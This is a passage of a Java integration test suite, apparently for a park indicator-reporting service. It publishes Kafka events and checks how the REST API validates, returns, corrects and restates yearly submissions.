        assertThat(get(submissions + "?period=2022")
                        .json()
                        .path("items")
                        .path(0)
                        .path("id")
                        .stringValue())
                .isEqualTo("haidian-2022");
    }

    private static IndicatorEvent.DataElementDefined yearly(String code, boolean signed) {
        return new IndicatorEvent.DataElementDefined(
                code,
                Text.of(code, code),
                new Unit("亿元"),
                2,
                IndicatorEvent.Kind.FLOW,
                new IndicatorEvent.Edition(
                        1,
                        null,
                        null,
                        List.of(IndicatorEvent.Level.PARK),
                        List.of(IndicatorEvent.Frequency.YEAR),
                        List.of(),
                        List.of(),
                        null,
                        null),
                signed);
    }

    private static List<String> codes(Answer refused) {
        return refused.json()
                .path("errors")
                .valueStream()
                .map(e -> e.path("code").stringValue())
                .toList();
    }

    /** What every report must have is what a report may have: else no report of the period could be submitted. */
    @Test
    void asksOfEveryReportOnlyWhatAReportMayHave() {
        publish(IndicatorEvents.DATA_ELEMENT_DEFINED, "element/trial-plots", 1, yearly("trial-plots", false));
        String years = "/parks/haidian/collections/2011";
        await().atMost(Duration.ofSeconds(30))
                .until(() -> codes(put(years, "{\"required\": [\"trial-plots\"]}", null))
                        .contains("wrong-level"));
        publish(
                IndicatorEvents.DATA_ELEMENT_DEFINED,
                "element/trial-energy",
                1,
                new IndicatorEvent.DataElementDefined(
                        "trial-energy",
                        Text.of("Energy", "能耗"),
                        new Unit("吨标煤"),
                        2,
                        IndicatorEvent.Kind.FLOW,
                        new IndicatorEvent.Edition(
                                1,
                                null,
                                null,
                                List.of(IndicatorEvent.Level.ENTERPRISE, IndicatorEvent.Level.PARK),
                                List.of(IndicatorEvent.Frequency.YEAR),
                                List.of(),
                                List.of(),
                                null,
                                null),
                        false));
        String body = "{\"opensOn\": \"2026-01-01\", \"closesOn\": \"2026-01-02\", \"required\": [\"trial-energy\"]}";
        await().atMost(Duration.ofSeconds(30))
                .until(() -> put(years, body, null).status() == 201);
        Answer monthly = put("/parks/haidian/collections/2011-05", body, null);
        assertThat(monthly.status()).as(monthly.response().body()).isEqualTo(422);
        assertThat(monthly.json().at("/errors/0/code").stringValue("")).isEqualTo("wrong-frequency");
    }

    /** R11: people are counted, whichever way their number comes. */
    @Test
    void takesNoPartOfAPerson() {
        publish(
                IndicatorEvents.DATA_ELEMENT_DEFINED,
                "element/trial-staff",
                1,
                new IndicatorEvent.DataElementDefined("trial-staff", Text.of("Staff", "人员"), new Unit("人"), 0));
        String values =
                "{\"period\": \"2011\", \"values\": [{\"element\": \"trial-staff\", \"value\": \"%s\", \"unit\": \"%s\"}]}";
        String submissions = "/parks/haidian/submissions";
        await().atMost(Duration.ofSeconds(30))
                .until(() -> codes(post(submissions, values.formatted("0.123456789", "件")))
                        .contains("wrong-unit"));
        Answer half = post(submissions, values.formatted("10.5", "人"));
        assertThat(half.status()).as(half.response().body()).isEqualTo(422);
        assertThat(half.json().path("code").stringValue()).isEqualTo("wrong-decimal");
        assertThat(post(submissions, values.formatted("10.0", "人")).status()).isEqualTo(201);
    }

    /** What the city wants of a period, what of it is missing, what it returned by line, and why accepted values change. */
    @Test
    void worksOnARoundOfTheCityUntilItsValuesAreAccepted() {
        publish(IndicatorEvents.DATA_ELEMENT_DEFINED, "element/trial-margin", 1, yearly("trial-margin", true));
        publish(IndicatorEvents.DATA_ELEMENT_DEFINED, "element/trial-sales", 1, yearly("trial-sales", false));
        publish(
                IndicatorEvents.SUBMISSION_DUE,
                "round/2016/haidian",
                1,
                new IndicatorEvent.SubmissionDue(
                        new Period("2016"),
                        new ParkCode("haidian"),
                        LocalDate.of(2017, 1, 20),
                        LocalDate.of(2017, 1, 18),
                        2,
                        "submission"));
        publish(
                IndicatorEvents.ROUND_OPENED,
                "round/2016",
                1,
                new IndicatorEvent.RoundOpened(
                        new Period("2016"),
                        LocalDate.of(2017, 1, 3),
                        LocalDate.of(2017, 1, 20),
                        List.of("trial-margin", "trial-sales"),
                        IndicatorEvent.Approval.TWO_STEP,
                        List.of(
                                new IndicatorEvent.Extended(ParkCode.of("yanqing"), LocalDate.of(2017, 2, 20), "别的分园"),
                                new IndicatorEvent.Extended(
                                        ParkCode.of("haidian"), LocalDate.of(2017, 1, 25), "系统迁移"))));
        String round = "/parks/haidian/rounds/2016";
        await().atMost(Duration.ofSeconds(30)).until(() -> get(round).status() == 200);
        JsonNode wanted = get(round).json();
        assertThat(wanted.path("state").stringValue()).isEqualTo("over");
        assertThat(wanted.path("dueOn").stringValue())
                .as("this park has more time")
                .isEqualTo("2017-01-25");
        assertThat(wanted.path("missing").toString()).isEqualTo("[\"trial-margin\",\"trial-sales\"]");
        assertThat(wanted.path("reminder").path("workingDaysLeft").intValue()).isEqualTo(2);
        assertThat(get("/parks/haidian/rounds/1999").status()).isEqualTo(404);
        assertThat(get("/parks/haidian/rounds").json().path("items").valueStream())
                .anySatisfy(r -> assertThat(r.path("period").stringValue()).isEqualTo("2016"));

        String submissions = "/parks/haidian/submissions";
        String values =
                "\"values\":[{\"element\":\"trial-sales\",\"value\":\"%s\"},{\"element\":\"trial-margin\",\"value\":\"%s\"}]";
        // without units it is refused either way: for what shows whether the definitions have arrived
        Answer monthly = await().atMost(Duration.ofSeconds(30))
                .until(
                        () -> post(submissions, "{\"period\":\"2016-05\"," + values.formatted("1", "1") + "}"),
                        a -> a.json()
                                        .path("errors")
                                        .valueStream()
                                        .filter(e ->
                                                e.path("code").stringValue().equals("wrong-frequency"))
                                        .count()
                                == 2);
        assertThat(monthly.status()).isEqualTo(422);
        assertThat(monthly.json().path("code").stringValue()).isEqualTo("wrong-frequency");
        assertThat(monthly.json().path("errors").path(0).path("expected").stringValue())
                .contains("reported by month; it is by year");
        assertThat(post(submissions, "{\"period\":\"2016\"," + values.formatted("-1", "-1") + "}")
                        .json()
                        .path("errors")
                        .valueStream()
                        .map(e -> e.path("pointer").stringValue() + " "
                                + e.path("code").stringValue()))
                .containsExactly("/values/0/value negative-amount");
        Answer sent = post(submissions, "{\"period\":\"2016\",\"submit\":true," + values.formatted("10", "-1") + "}");
        assertThat(sent.status()).isEqualTo(201);
        assertThat(get(round).json().path("missing").size()).isZero();
        assertThat(get(round).json().path("stage").stringValue()).isEqualTo("submitted");
        String own = sent.header("Location");

        publish(
                IndicatorEvents.SUBMISSION_RETURNED,
                "haidian-2016",
                2,
                new IndicatorEvent.SubmissionReturned(
                        "haidian-2016",
                        new ParkCode("haidian"),
                        new Period("2016"),
                        1,
                        List.of("请核对"),
                        Instant.now(),
                        List.of(new IndicatorEvent.ReturnedLine("trial-margin", "请核对"))));
        await().atMost(Duration.ofSeconds(30))
                .until(() -> get(own).json().path("state").stringValue().equals("returned"));
        assertThat(get(own).json().path("lines").path(0).path("element").stringValue())
                .isEqualTo("trial-margin");
        Answer corrected = put(own, "{" + values.formatted("11", "-2") + "}", get(own).header("ETag"));
        assertThat(corrected.json().path("correction").toString())
                .isEqualTo("{\"of\":1,\"changed\":[\"trial-margin\",\"trial-sales\"],\"asked\":[\"trial-margin\"],"
                        + "\"unanswered\":[],\"others\":[\"trial-sales\"]}");
        assertThat(corrected.json().path("warnings").path(0).path("code").stringValue())
                .isEqualTo("other-lines-changed");
        assertThat(post(own + "/submit", "").json().path("state").stringValue()).isEqualTo("submitted");

        publish(
                IndicatorEvents.SUBMISSION_ACCEPTED,
                "haidian-2016",
                4,
                new IndicatorEvent.SubmissionAccepted(
                        "haidian-2016",
                        new ParkCode("haidian"),
                        new Period("2016"),
                        2,
                        List.of(),
                        Instant.now(),
                        false));
        await().atMost(Duration.ofSeconds(30))
                .until(() -> get(own).json().path("state").stringValue().equals("accepted"));
        Answer unreasoned = put(own, "{\"submit\":true," + values.formatted("12", "-2") + "}", get(own).header("ETag"));
        assertThat(unreasoned.status()).isEqualTo(422);
        assertThat(unreasoned.json().path("code").stringValue()).isEqualTo("restatement-reason-required");
        assertThat(get(own).json().path("state").stringValue())
                .as("nothing is changed")
                .isEqualTo("accepted");
        Answer restated = put(
                own,
                "{\"submit\":true,\"restatementReason\":\"企业更正年报\"," + values.formatted("12", "-2") + "}",
                get(own).header("ETag"));
        assertThat(restated.status()).isEqualTo(200);
        assertThat(restated.json().path("revision").intValue()).isEqualTo(3);
        assertThat(restated.json().path("acceptedRevision").intValue()).isEqualTo(2);
        assertThat(restated.json().path("restatementReason").stringValue()).isEqualTo("企业更正年报");
    }

    private <E extends Addressed> void publish(EventType<E> type, String subject, long sequence, E data) {
        try (LogOfTests log = new LogOfTests(infrastructure.bootstrapServers())) {
            log.tell(type, "/indicators", subject, sequence, data);
            log.flush();
        }
    }

    /** An event as it stands on the log. */
    private record Seen(String id, String subject, long sequence) {}

    private static List<Seen> eventsOf(String servers, String subject, int atLeast) {
        List<Seen> all = new ArrayList<>();
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            all.clear();
            events(servers, 0).stream().filter(s -> s.subject().equals(subject)).forEach(all::add);
            return all.size() >= atLeast;
        });
        return all;
    }

    /** All of the parks' topic, once there are as many. */
    private static List<Seen> events(String servers, int atLeast) {
        List<Seen> all = new ArrayList<>();
        Map<String, Object> config = new HashMap<>(Map.of("bootstrap.servers", servers, "enable.auto.commit", false));
        try (KafkaConsumer<String, byte[]> consumer =
                new KafkaConsumer<>(config, new StringDeserializer(), new ByteArrayDeserializer())) {
            await().atMost(Duration.ofSeconds(60)).until(() -> {
                List<TopicPartition> partitions = consumer.partitionsFor(ParkEvents.TOPIC).stream()
                        .map(p -> new TopicPartition(p.topic(), p.partition()))
                        .toList();
                if (partitions.isEmpty()) {
                    return false;
                }
                consumer.assign(partitions);
                consumer.seekToBeginning(partitions);
                all.clear();
                Map<TopicPartition, Long> ends = consumer.endOffsets(partitions);
                while (partitions.stream().anyMatch(p -> consumer.position(p) < ends.get(p))) {
                    for (ConsumerRecord<String, byte[]> record : consumer.poll(Duration.ofMillis(200))) {
                        all.add(new Seen(
                                header(record, "ce_id"),
                                header(record, "ce_subject"),
                                Long.parseLong(header(record, "ce_sequence"))));
                    }
                }
                return all.size() >= atLeast;
            });
        }
        return all;
    }

    private static String header(ConsumerRecord<String, byte[]> record, String name) {
        return new String(record.headers().lastHeader(name).value(), UTF_8);
    }
}
